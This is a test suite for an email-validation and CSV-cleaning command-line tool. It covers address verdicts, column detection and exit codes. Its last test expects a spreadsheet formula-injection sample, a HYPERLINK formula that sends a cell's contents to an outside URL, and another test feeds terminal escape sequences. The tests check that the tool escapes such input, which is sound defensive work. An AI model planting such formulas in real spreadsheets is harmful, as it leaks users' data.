import { readFileSync } from 'node:fs'
import { readdir, readFile, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { parse } from 'csv-parse/sync'
import { describe, expect, test } from 'vitest'
import { execFile, spawn } from '../../../scripts/testing/programs.ts'
import { writeBigCsv } from './support/big-csv.ts'
import { makeFolder } from './support/folder.ts'
import { CLEAN_ENV, EXAMPLE, jsonLines, mailsift, mailsiftBytes, PROGRAM } from './support/mailsift.ts'

/** One row for each kind of outcome. */
const CSV = 'name,email\nAda,ada.lovelace@contoso.com\nDesk,info@contoso.com\nNobody,nobody\nRagged\n'

describe('validate --local', () => {
  test('prints the verdict of each address, in the given order', async () => {
    const { code, stdout, stderr } = await mailsift([
      'validate',
      '--local',
      'ada.lovelace@contoso.com',
      'info@mailinator.com',
      'nobody',
    ])
    expect({ code, stderr }).toEqual({ code: 0, stderr: '' })
    expect(stdout).toBe(
      'safe       ada.lovelace@contoso.com\n' +
        'unsafe     info@mailinator.com  Disposable address, Role-based address\n' +
        'malformed  nobody  The address has no @ sign.\n',
    )
  })

  test('prints risky for a forwarding address, like the console and the list', async () => {
    const address = 'abc123@privaterelay.appleid.com'
    const { stdout } = await mailsift(['validate', '--local', address])
    expect(stdout).toBe(`risky      ${address}  Forwarding address\n`)
    const explained = await mailsift(['validate', '--local', '--explain', '--json', address])
    expect(jsonLines(explained.stdout)).toMatchObject([{ tier: 'risky', reasons: [{ code: 'relay' }] }])
    const list = await mailsift(['clean', '--local', '-', '--columns', 'status'], { input: `email\n${address}\n` })
    expect(list.stdout).toContain(`${address},risky`)
  })

  test('reads stdin for -, line by line, without blank lines', async () => {
    const input = 'ada.lovelace@contoso.com\r\n\n  info@contoso.com\nnobody'
    const { code, stdout } = await mailsift(['validate', '--local', '--json', '-'], { input })
    expect(code).toBe(0)
    expect(jsonLines(stdout)).toMatchObject([
      { index: 0, input: 'ada.lovelace@contoso.com', error: null, result: { validations: { safe_to_send: true } } },
      { index: 1, input: '  info@contoso.com', error: null, result: { inbound: 'info@contoso.com' } },
      { index: 2, input: 'nobody', error: { code: 'invalid_email' }, result: null },
    ])
  })

  test('a byte order mark before the first line is not part of an address', async () => {
    const input = '\ufeffada.lovelace@contoso.com\r\n\ufeffada.lovelace@contoso.com\r\n'
    const { stdout } = await mailsift(['validate', '--local', '-'], { input })
    expect(stdout).toBe(
      'safe       ada.lovelace@contoso.com\n' + 'unsafe     \\u{feff}ada.lovelace@contoso.com  Unusual characters\n',
    )
  })

  test('prints a result while the next line is still being typed', async () => {
    const child = spawn(process.execPath, [PROGRAM, 'validate', '--local', '-'], { env: CLEAN_ENV })
    const answer = new Promise<string>((resolve) => child.stdout.setEncoding('utf8').once('data', resolve))
    child.stdin.write('ada.lovelace@contoso.com\n')
    expect(await answer).toMatch(/^safe /)
    child.stdin.end()
    expect(await new Promise((resolve) => child.once('close', resolve))).toBe(0)
  })

  test('--explain names the rule or list behind each reason', async () => {
    const { stdout } = await mailsift(['validate', '--local', '--explain', 'info@mailinator.com'])
    expect(stdout).toMatch(/^ {2}disposable +mailinator\.com provides disposable addresses\. \(lists: .*mailchecker/m)
    expect(stdout).toMatch(/^ {2}role +This address belongs to a team or a role, not to one person\./m)
    const json = await mailsift(['validate', '--local', '--explain', '--json', 'info@mailinator.com'])
    expect(jsonLines(json.stdout)[0].reasons.map(({ code }: { code: string }) => code)).toEqual(['disposable', 'role'])
  })

  test('names each reason, including those without a flag on the wire', async () => {
    const { stdout } = await mailsift([
      ...['validate', '--local', 'bob.miller@gmial.com', '1anna.lee@yahoo.com', 'ada.lovelace@example.com'],
      'ada.lovelace@contoso.nosuchend',
    ])
    expect(stdout.split('\n').map((line) => line.split(/ {2,}/)[2])).toEqual([
      'Misspelled domain',
      'Mailbox cannot exist',
      'Reserved domain',
      'Unknown domain ending',
      undefined,
    ])
  })

  test('--explain suggests the intended address, also for a malformed one', async () => {
    const { stdout } = await mailsift(['validate', '--local', '--explain', 'bob.miller@gmial.com', 'john.smith@gmail'])
    expect(stdout).toMatch(/^ {2}did you mean +bob\.miller@gmail\.com$/m)
    expect(stdout).toMatch(
      /^malformed +john\.smith@gmail +The domain has no dot\.\n {2}did you mean +john\.smith@gmail\.com$/m,
    )
    const json = await mailsift(['validate', '--local', '--explain', '--json', 'bob.miller@gmial.com'])
    expect(jsonLines(json.stdout)[0].suggestion).toBe('bob.miller@gmail.com')
  })

  test('escapes control characters instead of sending them to the terminal', async () => {
    const { stdout } = await mailsift(['validate', '--local', 'a\x1b[2J\u202eb'])
    expect(stdout).toMatch(/^malformed {2}a\\u\{1b\}\[2J\\u\{202e\}b {2}/)
  })

  test.for([
    ['ada.lovelace@contoso.com', 0],
    ['info@contoso.com', 10],
    ['abc123@privaterelay.appleid.com', 10],
    ['nobody', 10],
  ] as const)('--fail-on unsafe ends with the exit code of %s', async ([address, expected]) => {
    expect((await mailsift(['validate', '--local', '--fail-on', 'unsafe', address])).code).toBe(expected)
  })
})

describe('clean --local', () => {
  const clean = (args: string[], input: string | Buffer = CSV) =>
    mailsift(['clean', '--local', '-', ...args], { input })

  test('returns every row unchanged, with its result', async () => {
    const { code, stdout, stderr } = await clean([])
    expect(code).toBe(0)
    expect(stderr).toMatch(/^Email column: "email"\.\nstdin: 4 rows, 3 addresses .*\n {2}safe +1 +25\.0%\n/)
    expect((await clean(['-q'])).stderr).toBe('')
    const rows = parse(stdout, { columns: true }) as Record<string, string>[]
    expect(rows.map((row) => [row.name, row.status, row.reason, row['service.error.code']])).toEqual([
      ['Ada', 'safe', 'ok', ''],
      ['Desk', 'unsafe', 'role', ''],
      ['Nobody', 'unsafe', 'invalid', 'invalid_email'],
      ['Ragged', 'blank', 'no_address', 'invalid_email'],
    ])
    expect(rows[3]!.note).toBe('This row has 1 field; the header has 2.')
    expect(Object.keys(rows[0]!).slice(0, 6)).toEqual([
      'name',
      'email',
      'status',
      'reason',
      'suggestion',
      'service.error.code',
    ])
  })

  test('--allow, --caution and --refuse override single reasons, and an unknown one is refused with the known ones', async () => {
    const statusOf = async (...args: string[]) => {
      const rows = parse((await clean(args)).stdout, { columns: true }) as Record<string, string>[]
      return rows.find(({ name }) => name === 'Desk')!.status
    }
    expect(await statusOf('--allow', 'role')).toBe('safe')
    expect(await statusOf('--caution', 'relay, role')).toBe('risky')
    expect(await statusOf('--policy', 'b2b', '--refuse', 'role')).toBe('unsafe')
    const { code, stdout, stderr } = await clean(['--allow', 'roles'])
    expect({ code, stdout }).toEqual({ code: 2, stdout: '' })
    expect(stderr).toMatch(/--allow knows .*role, .*, not "roles"/)
  })

  test('--only omits rows with other statuses', async () => {
    const names = async (only: string) =>
      (await clean(['--only', only])).stdout.split('\n').map((line) => line.split(',')[0])
    expect(await names('safe')).toEqual(['name', 'Ada', ''])
    expect(await names('unsafe,risky')).toEqual(['name', 'Desk', 'Nobody', ''])
    expect(await names('blank')).toEqual(['name', 'Ragged', ''])
  })

  test('a ragged row is padded and validated: no column shifts, and extra fields follow ours', async () => {
    const { stdout } = await clean(
      ['--columns', 'short'],
      'id,email,name\n1,b.miller@gmail.com\n2,c.miller@gmail.com,C,more,"and, more"\n3,d.miller@gmail.com,D\n',
    )
    expect(stdout).toBe(
      'id,email,name,status,reason,suggestion,address,note,original_email\n' +
        '1,b.miller@gmail.com,,safe,ok,,b.miller@gmail.com,"This row has 2 fields; the header has 3.",\n' +
        '2,c.miller@gmail.com,C,safe,ok,,c.miller@gmail.com,"This row has 5 fields; the header has 3.",,more,"and, more"\n' +
        '3,d.miller@gmail.com,D,safe,ok,,d.miller@gmail.com,,\n',
    )
  })

  test('-o writes the file, and --json the counts', async () => {
    const folder = await makeFolder()
    const output = join(folder, 'out.csv')
    const { code, stdout } = await clean(['-o', output, '--only', 'safe', '--json'])
    expect(code).toBe(0)
    expect(JSON.parse(stdout)).toMatchObject({
      group: null,
      status: 'completed',
      list: { name: 'stdin', format: 'text', encoding: 'utf-8', separator: ',', header: true, columns: ['email'] },
      rows: 4,
      addresses: 3,
      safe: 1,
      unsafe: 2,
      unknown: 0,
      blank: 1,
      shares: { safe: 0.25, unsafe: 0.5, blank: 0.25 },
      reasons: [
        { status: 'safe', reason: 'ok', count: 1, share: 0.25 },
        { status: 'unsafe', reason: 'role', count: 1 },
        { status: 'unsafe', reason: 'invalid', count: 1 },
        { status: 'blank', reason: 'no_address', count: 1 },
      ],
      written: 1,
      outputs: [output],
    })
    expect((await readFile(output, 'utf8')).split('\n').length).toBe(3)
    expect(await readdir(folder)).toEqual(['out.csv'])
  })

  test('a list in one line is not repeated for each of its addresses', async () => {
    const folder = await makeFolder()
    const addresses = Array.from({ length: 4000 }, (_, at) => `grace.hopper${at}@contoso.com`)
    // Longer than the sample used to detect the format.
    const line = addresses.join('; ')
    expect(line.length).toBeGreaterThan(64 * 1024)
    await writeFile(join(folder, 'line.txt'), line)
    await writeFile(join(folder, 'cell.csv'), `id,email\n1,"${line}"\n`)
    for (const name of ['line.txt', 'cell.csv']) {
      const { code, stdout } = await mailsift(['clean', '--local', '--columns', 'short', join(folder, name)])
      expect(code).toBe(0)
      const [, ...rows] = parse(stdout) as string[][]
      expect(rows.map((row) => row.at(-3))).toEqual(addresses)
      expect(rows[0]!.slice(0, -6)).toEqual(name === 'line.txt' ? [addresses[0]] : ['1', addresses[0]])
      expect(rows.map((row) => row.at(-1)).filter(Boolean)).toEqual([line])
      expect(rows[1]!.slice(0, -6)).toEqual(name === 'line.txt' ? [addresses[1]] : ['', addresses[1]])
      expect(rows[1]!.at(-2)).toMatch(/^repaired from grace\.hopper0@.{1,190}…; address 2 of 4000 in this row$/)
    }
  })

  test('--fail-on unsafe exits with 10 if a row is not safe', async () => {
    expect((await clean(['--fail-on', 'unsafe'])).code).toBe(10)
    expect((await clean(['--fail-on', 'unsafe'], 'email\nada.lovelace@contoso.com\n')).code).toBe(0)
  })

  test('a reader that closes the pipe early ends the command quietly', async () => {
    const file = join(await makeFolder(), 'in.csv')
    await writeBigCsv(file, { rows: 20_000 })
    const line = `"$0" "$1" clean --local "$2" | head -n 1`
    const args = ['-c', line, process.execPath, PROGRAM, file]
    const { stdout, stderr } = await new Promise<{ stdout: string; stderr: string }>((resolve) =>
      execFile('sh', args, { env: CLEAN_ENV }, (_error, stdout, stderr) => resolve({ stdout, stderr })),
    )
    expect(stdout.split('\n').length).toBe(2)
    expect(stderr).toBe('Email column: "email".\n')
  })
})

describe('the email column', () => {
  const columnOf = async (input: string, args: string[] = []) => {
    const { code, stdout, stderr } = await mailsift(['clean', '--local', '-', ...args], { input })
    if (code !== 0) return stderr
    const options = { columns: true, relax_column_count: true, skip_empty_lines: true, delimiter: [',', ';'] }
    const [first] = parse(stdout, options) as unknown as Record<string, string>[]
    return Object.entries(first!).findLast(([name]) => /^service\d*\.inbound$/.test(name))?.[1]
  }

  test.for([
    ['by its cells, whatever its name', 'a;b\n1;x@contoso.com\n', 'x@contoso.com'],
    ['by its name, when no cell tells', 'name,E-Mail\nAda,\nBob,\n', ''],
    ['past cells that are no addresses', 'email\n\nx@contoso.com\nx@contoso.org\nnone\n', 'x@contoso.com'],
    [
      'beside the answers of an earlier cleaning',
      'mail,service.inbound\nx@contoso.com,y@contoso.com\n',
      'x@contoso.com',
    ],
    ['behind a byte order mark', '\ufeffemail,name\nx@contoso.com,A\n', 'x@contoso.com'],
  ] as const)('is found %s', async ([, input, expected]) => {
    expect(await columnOf(input)).toBe(expected)
  })

  test('is the one given', async () => {
    const two = 'home,work\nh@contoso.com,w@contoso.com\n'
    expect(await columnOf(two, ['--column', 'work'])).toBe('w@contoso.com')
    expect(await columnOf(two, ['-c', 'HOME'])).toBe('h@contoso.com')
    expect(await columnOf(two, ['-c', '#2'])).toBe('w@contoso.com')
  })

  test.for([
    [
      'of several, the choices are told',
      'home,work,city\nh@contoso.com,w@contoso.com,X\n',
      [],
      /--column.*"home", "work"\./,
    ],
    ['of none, all columns are told', 'a,b\n1,2\n', [], /--column.*"a", "b"\./],
    ['of another name, all columns are told', 'a,b\n1,2\n', ['-c', 'C'], /no column "C".*"a", "b"\./],
    ['of blank lines, that is told', '\n\n', [], /The file contains no rows/],
    ['of nothing but a byte order mark, that is told', '\ufeff', [], /The file contains no rows/],
    [
      'of two of one name, both are told',
      'email,email\na@contoso.com,b@contoso.com\n',
      [],
      /"email \(#1\)", "email \(#2\)"/,
    ],
    ['of two of the given name, that is told', 'a,a\n1,2\n', ['-c', 'a'], /2 columns "a".*'#1' or --column '#2'/],
    ['of an empty file, that is told', '', [], /Cannot read stdin\. The file is empty/],
  ] as const)('%s', async ([, input, args, complaint]) => {
    expect(await columnOf(input, [...args])).toMatch(complaint)
  })
})

describe('the example file', () => {
  const rows = parse(readFileSync(EXAMPLE), { columns: true, relax_column_count: true }) as Record<string, string>[]

  test('has 200 rows of every kind', async () => {
    const { code, stdout } = await mailsiftBytes(['clean', '--local', '--no-dedupe', EXAMPLE])
    expect(code).toBe(0)
    const cleaned = parse(stdout, { columns: true, relax_column_count: true }) as Record<string, string>[]
    expect(cleaned.length).toBe(200)
    const flags = ['is_disposable', 'has_label', 'is_subdomain', 'is_no_reply', 'is_role_based']
    for (const flag of [...flags, 'has_irregular_pattern', 'has_uncommon_unicode', 'safe_to_send'])
      expect(cleaned.filter((row) => row[`service.validations.${flag}`] === 'true').length).toBeGreaterThan(1)
    expect(cleaned.filter((row) => row['service.error.code'] === 'invalid_email').length).toBeGreaterThan(5)
    expect(new Set(rows.map((row) => row['E-Mail'])).size).toBeLessThan(195)
    expect(rows.some((row) => row.Notes?.includes('\n'))).toBe(true)
    expect(rows.some((row) => row.Notes?.startsWith('='))).toBe(true)
    expect(rows.some((row) => /[^\p{ASCII}]/u.test(row['E-Mail']!))).toBe(true)
  })

  test("a formula in our cells is escaped, one in the input's cells is unchanged", async () => {
    const { stdout } = await mailsift(['clean', '--local', EXAMPLE])
    expect(stdout).toContain('"=HYPERLINK(""http://contoso.com/?leak=""&A1,""Open invoice"")"')
    expect(stdout).toContain(",'=sum@contoso.com,")
  })
})
